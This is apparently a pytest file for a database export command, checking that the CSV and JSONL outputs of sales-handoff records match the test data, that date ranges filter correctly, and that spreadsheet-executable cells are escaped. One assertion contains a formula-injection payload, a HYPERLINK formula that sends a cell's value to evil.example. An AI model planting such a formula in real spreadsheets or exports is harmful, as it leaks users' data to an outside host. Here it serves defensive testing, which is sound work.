"""`handoff export` on a real database: what it writes equals what the test built.

The expected records are written out in tests/support/export_records.py from the test's
own inputs (the answers, the scores, who did what when), never read back through the
repository.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from storage.db import make_engine, make_session_factory
from storage.export import COLUMNS, export_handoffs
from tests.support.export_records import (
    FORMULAS,
    HOSTILE_COMMENT,
    SPLIT_ROW,
    build,
    build_formulas,
)
from tests.support.qualifications import NOW

CRITERIA = ("account_fit", "persona", "pain", "timing", "next_steps", "budget", "intent")


@pytest.fixture
def sessions(database_url):
    engine = make_engine(database_url)
    yield make_session_factory(engine)
    engine.dispose()


def _export(database_url, fmt, **kwargs) -> tuple[int, str]:
    out = io.StringIO()
    count = export_handoffs(database_url, out, fmt=fmt, batch=2, **kwargs)
    return count, out.getvalue()


# -- reading CSV back: every cell decoded by what its column holds ---------------------------

JSON_COLUMNS = {"fit_answers", "stakeholders", "intent_signals"}
INT_COLUMNS = {"id", "score", "seconds_to_decision", "seconds_to_outcome"}


def _decode(column: str, cell: str) -> Any:
    if cell == "":
        return None
    if column in JSON_COLUMNS:
        return json.loads(cell)
    if column == "clears_bar" or column.endswith(("_met", "_must_meet")):
        assert cell in ("true", "false"), (column, cell)
        return cell == "true"
    if column in INT_COLUMNS or column.endswith("_weight"):
        return int(cell)
    return cell


def _flat(expected: dict[str, Any]) -> dict[str, Any]:
    """The expected record as CSV columns: one set of columns per rubric criterion."""
    flat = {k: v for k, v in expected.items() if k != "criteria"}
    for key in CRITERIA:
        result = expected["criteria"].get(key) or {}
        for part in ("met", "weight", "must_meet", "reason"):
            flat[f"criterion_{key}_{part}"] = result.get(part)
    return flat


def test_jsonl_is_every_handoff_as_built(sessions, database_url):
    built = build(sessions)
    count, text = _export(database_url, "jsonl")
    lines = text.splitlines()
    assert count == len(lines) == 6
    assert [json.loads(line) for line in lines] == [b.expected for b in built]
    # Both rubric versions are there, each with its own criteria results.
    assert {json.loads(line)["rubric_version"] for line in lines} == {"2026.1", "2027.1"}


def test_csv_is_every_handoff_as_built(sessions, database_url):
    built = build(sessions)
    count, text = _export(database_url, "csv")
    reader = csv.reader(io.StringIO(text, newline=""))
    header = next(reader)
    rows = list(reader)
    assert count == len(rows) == 6
    assert header == list(COLUMNS)
    assert header[:5] == ["id", "team_id", "status", "sdr_id", "submitted_at"]
    for key in CRITERIA:
        for part in ("met", "weight", "must_meet", "reason"):
            assert f"criterion_{key}_{part}" in header
    decoded = [{c: _decode(c, cell) for c, cell in zip(header, row, strict=True)} for row in rows]
    expected = [_flat(b.expected) for b in built]
    # Empty text and None are one thing in CSV.
    expected = [{k: (None if v == "" else v) for k, v in e.items()} for e in expected]
    assert decoded == expected
    globex = next(r for r in decoded if r["company"].startswith("Globex"))
    assert globex["rejection_comment"] == HOSTILE_COMMENT  # quotes, comma, newline survive


def test_dates_select_by_submission_and_the_header_never_changes(sessions, database_url):
    built = build(sessions)
    day = NOW.date()
    since = datetime(day.year, day.month, day.day, tzinfo=UTC)
    count, text = _export(database_url, "jsonl", since=since, until=since + timedelta(days=1))
    assert [json.loads(line)["id"] for line in text.splitlines()] == [b.id for b in built[:5]]
    # An instant is exact: from Globex's submission (included) to Umbrella's (excluded).
    count, text = _export(database_url, "jsonl", since=built[1].submitted, until=built[3].submitted)
    assert [json.loads(line)["company"] for line in text.splitlines()] == [
        built[1].q.company,
        "Initech",
    ]
    assert json.loads(text.splitlines()[0]) == built[1].expected  # children still match
    count, text = _export(database_url, "csv", since=NOW + timedelta(days=100))
    assert count == 0 and text.splitlines() == [",".join(COLUMNS)]


def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(sessions, database_url):
    build_formulas(sessions)
    _, text = _export(database_url, "csv")
    row = next(csv.DictReader(io.StringIO(text, newline="")))
    for column, typed in FORMULAS.items():
        assert row[column] == "'" + typed, column
    assert row["company"] == '\'=HYPERLINK("https://evil.example/?d="&A2,"x")'
    assert row["submitted_at"] == "2026-11-23T14:30:00Z"  # only text cells change
    assert row["stakeholders"].startswith("[")
    assert row["trigger"] == SPLIT_ROW  # quoted, so the row holds
    assert f'"{SPLIT_ROW}"' in text

    _, text = _export(database_url, "csv", raw=True)
    row = next(csv.DictReader(io.StringIO(text, newline="")))
    assert {c: row[c] for c in FORMULAS} == FORMULAS

    _, text = _export(database_url, "jsonl")
    record = json.loads(text)
    assert {c: record[c] for c in FORMULAS} == FORMULAS


def test_unknown_format_is_refused(database_url):
    with pytest.raises(ValueError, match="csv, jsonl"):
        export_handoffs(database_url, io.StringIO(), fmt="xlsx")
